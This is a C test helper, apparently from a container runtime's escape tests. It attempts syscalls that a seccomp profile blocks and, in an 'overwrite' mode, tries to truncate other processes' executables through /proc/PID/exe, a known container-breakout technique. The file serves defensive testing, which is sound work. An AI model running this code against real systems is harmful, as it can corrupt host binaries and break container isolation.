/*
 * attack: the escape attempts of test/e2e/escape_test.go that need raw
 * system calls, built with gcc -static by the test and copied into a
 * container. Each mode prints one line per attempt: "NAME ok" when the
 * call succeeded, "NAME errno E" (E the errno name) when it failed.
 *
 *   attack syscalls          the calls docker's seccomp profile refuses
 *   attack overwrite SECS    for SECS seconds, open every /proc/PID/exe that
 *                            is not this program's and try to write through
 *                            it, now and through the kept handle later;
 *                            prints "wrote PID" on success, then a summary
 *                            and "target T" for each program it got a handle of
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/perf_event.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static const char *errname(int e)
{
	switch (e) {
	case EPERM: return "EPERM";
	case ENOSYS: return "ENOSYS";
	case EACCES: return "EACCES";
	case EROFS: return "EROFS";
	case ETXTBSY: return "ETXTBSY";
	case EINVAL: return "EINVAL";
	case ENOENT: return "ENOENT";
	case EBADF: return "EBADF";
	case EFAULT: return "EFAULT";
	}
	static char buf[32];
	snprintf(buf, sizeof(buf), "%d", e);
	return buf;
}

static void report(const char *name, long r)
{
	if (r < 0)
		printf("%s errno %s\n", name, errname(errno));
	else
		printf("%s ok\n", name);
	fflush(stdout);
}

struct clone_args3 {
	uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls, set_tid, set_tid_size, cgroup;
};

static int syscalls(void)
{
	report("unshare-user", unshare(CLONE_NEWUSER));
	report("unshare-mount", unshare(CLONE_NEWNS));
	long r = syscall(SYS_clone, (unsigned long) (CLONE_NEWUSER | SIGCHLD), 0, 0, 0, 0);
	if (r == 0)
		_exit(0);
	report("clone-newuser", r);
	struct clone_args3 ca = { .exit_signal = SIGCHLD };
	r = syscall(SYS_clone3, &ca, sizeof(ca));
	if (r == 0)
		_exit(0);
	report("clone3", r);
	report("mount", mount("skiffescape", "/mnt", "tmpfs", 0, ""));
	report("keyctl", syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3 /* session */, 1));
	report("add_key", syscall(SYS_add_key, "user", "skiffescape", "x", 1, -2 /* process keyring */));
	union bpf_attr attr;
	memset(&attr, 0, sizeof(attr));
	attr.map_type = BPF_MAP_TYPE_ARRAY;
	attr.key_size = 4;
	attr.value_size = 4;
	attr.max_entries = 1;
	report("bpf", syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof(attr)));
	struct perf_event_attr pe;
	memset(&pe, 0, sizeof(pe));
	pe.type = PERF_TYPE_SOFTWARE;
	pe.size = sizeof(pe);
	pe.config = PERF_COUNT_SW_CPU_CLOCK;
	pe.disabled = 1;
	report("perf_event_open", syscall(SYS_perf_event_open, &pe, 0, -1, -1, 0));
	report("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0));
	struct { unsigned int bytes; int type; unsigned char h[128]; } fh = { .bytes = 8, .type = 1 };
	report("open_by_handle_at", syscall(SYS_open_by_handle_at, AT_FDCWD, &fh, O_RDONLY));
	report("personality-ok", syscall(SYS_personality, 0xffffffffUL));
	report("socket-vsock", syscall(SYS_socket, 40 /* AF_VSOCK */, 1, 0));
	return 0;
}

#define MAXKEPT 256

static int overwrite(int secs)
{
	int kept[MAXKEPT], nkept = 0, opened = 0, wrote = 0, ntargets = 0;
	static char targets[16][256];
	int errs[256] = { 0 };
	pid_t self = getpid();
	time_t end = time(NULL) + secs;
	char path[64], self_fd[64];
	while (time(NULL) < end) {
		DIR *d = opendir("/proc");
		struct dirent *de;
		while (d && (de = readdir(d)) != NULL) {
			pid_t pid = atoi(de->d_name);
			if (pid <= 0 || pid == self)
				continue;
			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			char target[256];
			ssize_t n = readlink(path, target, sizeof(target) - 1);
			if (n <= 0)
				continue;
			target[n] = 0;
			/* the container's own programs are busybox and this one */
			if (strcmp(target, "/bin/busybox") == 0 || strcmp(target, "/attack") == 0)
				continue;
			int fd = open(path, O_WRONLY | O_TRUNC);
			if (fd >= 0) {
				printf("wrote %d (%s)\n", pid, target);
				wrote++;
				close(fd);
				continue;
			}
			if (errno < 256)
				errs[errno]++;
			fd = open(path, O_PATH | O_CLOEXEC);
			if (fd >= 0) {
				opened++;
				int seen = 0;
				for (int i = 0; i < ntargets; i++)
					seen |= strcmp(targets[i], target) == 0;
				if (!seen && ntargets < 16)
					strcpy(targets[ntargets++], target);
				if (nkept < MAXKEPT)
					kept[nkept++] = fd;
				else
					close(fd);
			}
		}
		if (d)
			closedir(d);
		/* a kept handle may become writable once its program stopped */
		for (int i = 0; i < nkept; i++) {
			snprintf(self_fd, sizeof(self_fd), "/proc/self/fd/%d", kept[i]);
			int fd = open(self_fd, O_WRONLY | O_TRUNC);
			if (fd >= 0) {
				printf("wrote through a kept handle\n");
				wrote++;
				close(fd);
			} else if (errno < 256) {
				errs[errno]++;
			}
		}
	}
	printf("summary wrote=%d handles=%d", wrote, opened);
	for (int e = 0; e < 256; e++)
		if (errs[e])
			printf(" %s=%d", errname(e), errs[e]);
	printf("\n");
	for (int i = 0; i < ntargets; i++)
		printf("target %s\n", targets[i]);
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc >= 2 && strcmp(argv[1], "syscalls") == 0)
		return syscalls();
	if (argc >= 3 && strcmp(argv[1], "overwrite") == 0)
		return overwrite(atoi(argv[2]));
	fprintf(stderr, "usage: attack syscalls | overwrite SECS\n");
	return 2;
}
